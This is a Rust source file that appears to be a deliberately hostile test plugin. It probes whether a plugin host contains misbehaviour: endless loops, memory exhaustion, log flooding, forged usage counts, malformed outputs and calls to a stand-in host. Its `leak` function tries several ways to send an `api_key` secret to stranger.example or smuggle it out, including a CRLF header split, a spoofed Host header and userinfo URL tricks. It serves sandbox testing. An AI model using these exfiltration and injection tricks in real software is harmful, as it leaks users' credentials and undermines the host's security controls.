//! What a hostile call does while it follows the protocol.
//!
//! Not here: steps that break the protocol (`steps`).

use knowhost_plugin_sdk::{
    Answer, ChatRequest, Ctx, Delta, EmbedRequest, Embeddings, Error, Finish, Hit, Level, Model, ModelAnswer, ModelRequest, Part, Ranking,
    RerankQuery, RerankRequest, Result, StreamCtx, Turn, Usage,
};
use std::hint::black_box;

pub(crate) const STRANGER: &str = "http://stranger.example/";

/// Misdeeds that need no await; they end the call, the instance, or nothing.
pub(crate) fn misbehave(name: &str) {
    match name {
        "loop" => endless(),
        "alloc" => {
            let mut taken: Vec<Vec<u8>> = Vec::new();
            loop {
                taken.push(black_box(vec![1u8; 1 << 20]));
            }
        }
        "trap" => panic!("as told"),
        "sleep" => std::thread::sleep(std::time::Duration::from_secs(3_600)),
        _ => {}
    }
}

pub(crate) fn endless() {
    let mut count = 0u64;
    loop {
        count = black_box(count.wrapping_add(1));
    }
}

/// Misdeeds that any kind of call can do on its way.
async fn on_the_way<D>(ctx: &StreamCtx<D>, model: &Model) -> Result<()> {
    match model.name.as_str() {
        "stranger" => {
            ctx.get(STRANGER).await?;
        }
        "log-flood" => {
            for round in 0..100 {
                for line in 0..100 {
                    ctx.log(Level::Warn, format!("{round} {line} {}", "x".repeat(10_000)));
                }
                ctx.sleep_ms(1).await;
            }
        }
        _ => {}
    }
    Ok(())
}

pub(crate) async fn embed(ctx: StreamCtx<knowhost_plugin_sdk::Never>, request: EmbedRequest) -> Result<Embeddings> {
    on_the_way(&ctx, &request.model).await?;
    let (rows, dimension, value) = match request.model.name.as_str() {
        "wrong-rows" => (request.texts.len().saturating_sub(1), 4, 0.5),
        "nan" => (request.texts.len(), 4, f32::NAN),
        "big" => (1, 10_000_000, 0.5),
        "leak" => return Err(Error::upstream(leak(&ctx, &request.model).await)),
        "rows" => (request.texts.len(), request.dimensions.unwrap_or(4), 0.5),
        _ => (request.texts.len(), 4, 0.5),
    };
    Ok(Embeddings { dimension, data: vec![value; rows * dimension as usize], usage: forged_usage(&request.model.name) })
}

pub(crate) async fn rerank(ctx: StreamCtx<knowhost_plugin_sdk::Never>, request: RerankRequest) -> Result<Ranking> {
    on_the_way(&ctx, &request.model).await?;
    let hit = |index: u32, relevance_score: f32| Hit { index, relevance_score };
    let hits = match request.model.name.as_str() {
        "wrong-rows" => vec![hit(u32::MAX, 0.5), hit(0, 0.5), hit(0, 0.4)],
        "nan" => vec![hit(0, f32::NAN)],
        "big" => vec![hit(0, 0.5); 5_000_000],
        "leak" => return Err(Error::upstream(leak(&ctx, &request.model).await)),
        _ => (0..u32::try_from(request.texts.len()).unwrap_or(u32::MAX)).map(|index| hit(index, 0.5)).collect(),
    };
    Ok(Ranking { hits, usage: None })
}

pub(crate) async fn chat(ctx: StreamCtx<Delta>, request: ChatRequest) -> Result<Answer> {
    on_the_way(&ctx, &request.model).await?;
    match request.model.name.as_str() {
        "big" => ctx.emit(Delta::Text("x".repeat(40 << 20))),
        "leak" => ctx.emit(Delta::Text(leak(&ctx, &request.model).await)),
        "models" => ctx.emit(Delta::Text(models(&ctx, &request.model).await)),
        "deep-trap" => deep_trap(&ctx, &request).await,
        "count" => count(&ctx, &request.model).await?,
        "relay" => crate::relay::relay(&ctx, &request).await?,
        _ => crate::zoo::animal(&ctx, &request).await?,
    }
    Ok(Answer { finish: Finish::Stop, usage: forged_usage(&request.model.name) })
}

fn forged_usage(name: &str) -> Option<Usage> {
    (name == "forged-usage").then_some(Usage { input_tokens: u32::MAX, output_tokens: u32::MAX })
}

async fn deep_trap(ctx: &StreamCtx<Delta>, request: &ChatRequest) {
    let pieces = request.model.setting_u64("count").unwrap_or(5);
    let told = request.messages.iter().flat_map(|message| &message.parts).any(|part| match part {
        Part::Text(text) => text.contains("trap"),
        Part::Image(_) => false,
    });
    for piece in 0..2 * pieces {
        assert!(!(told && piece == pieces), "as told, after {piece} pieces");
        ctx.emit(Delta::Text(format!("{piece} ")));
        ctx.sleep_ms(1).await;
    }
}

async fn count(ctx: &StreamCtx<Delta>, model: &Model) -> Result<()> {
    let most = model.setting_u64("count").unwrap_or(u64::MAX);
    let mut body = ctx.get(model.base_url.clone()).await?;
    let mut piece = 0;
    while piece < most && body.chunk().await?.is_some() {
        ctx.emit(Delta::Text(format!("{piece} ")));
        piece += 1;
    }
    Ok(())
}

/// Asks for an embedding, scores and a text, of the default models and of the row `other`.
async fn models(ctx: &Ctx, model: &Model) -> String {
    let texts = || vec!["a ferry".to_owned(), "a mountain".to_owned()];
    let rerank = || ModelRequest::Rerank(RerankQuery { query: "ferry".into(), texts: texts() });
    let chat = || ModelRequest::Chat(vec![Turn { role: "user".into(), text: "one two three four five six".into() }]);
    let other = model.setting_text("other").unwrap_or_else(|| "nothing".into());
    let mut report = String::new();
    for (way, name, request) in [
        ("embed", "embed", ModelRequest::Embed(texts())),
        ("rerank", "rerank", rerank()),
        ("chat", "chat", chat()),
        ("other chat", other.as_str(), chat()),
        ("other embed", other.as_str(), ModelRequest::Embed(texts())),
        ("mixed", "embed", chat()),
    ] {
        let end = match ctx.call_model(name, request, Some(1)).await {
            Ok(ModelAnswer::Text(text)) => format!("text {text:?}"),
            Ok(ModelAnswer::Vectors(rows)) => format!("{} numbers in rows of {}", rows.data.len(), rows.dimension),
            Ok(ModelAnswer::Scores(scores)) => format!("{} scores, rising {}", scores.len(), scores.is_sorted()),
            Err(fault) => format!("{:?} {}", fault.fault, fault.text),
        };
        report.push_str(&format!("{way}: {end}\n"));
    }
    report
}

/// Tries every way to get at the secret and says how each ended.
async fn leak(ctx: &Ctx, model: &Model) -> String {
    let base = model.base_url.trim_end_matches('/');
    let mut report = String::new();
    let attempts = [
        ("templates", ctx.post(format!("{base}/{{api_key}}?key={{api_key}}")).header("X-Leak", "${api_key} {api_key}").body("{api_key}")),
        ("address", ctx.get(format!("{base}/")).secret_query("stolen", "api_key")),
        ("stranger", ctx.get(STRANGER).bearer("api_key")),
        ("undeclared", ctx.get(format!("{base}/")).bearer("jwt_secret")),
        ("user information", ctx.get(format!("{}/", base.replacen("://", "://stranger.example@", 1))).bearer("api_key")),
        ("header split", ctx.get(format!("{base}/")).secret_header("X-A: b\r\nX-B", "", "api_key")),
        ("own host header", ctx.get(format!("{base}/")).header("Host", "stranger.example").bearer("api_key")),
    ];
    for (way, request) in attempts {
        let end = match request.await {
            Ok(mut body) => format!("{} {}", body.status(), body.excerpt(2_000).await),
            Err(fault) => format!("{:?} {}", fault.fault, fault.text),
        };
        report.push_str(&format!("{way}: {end}\n"));
    }
    report
}
